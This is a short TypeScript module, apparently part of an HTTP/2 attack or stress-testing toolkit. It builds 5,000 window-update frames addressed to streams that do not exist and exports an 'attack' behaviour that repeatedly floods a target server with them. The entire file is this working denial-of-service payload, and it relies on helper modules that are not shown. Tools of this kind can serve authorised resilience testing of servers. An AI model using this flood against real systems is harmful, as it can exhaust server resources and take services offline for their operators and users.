/** Grants of window for streams that are not there. */
import type { Behaviour } from '../attack/target.js'
import { flooding, FRAME, header } from '../attack/wire.js'

const WINDOWS = Buffer.concat(Array.from({ length: 5_000 }, (_, n) => header(FRAME.window, 0, 2 * n + 1, 1)))

export const attack: Behaviour = async (target, signal) => flooding(target, signal, () => WINDOWS)
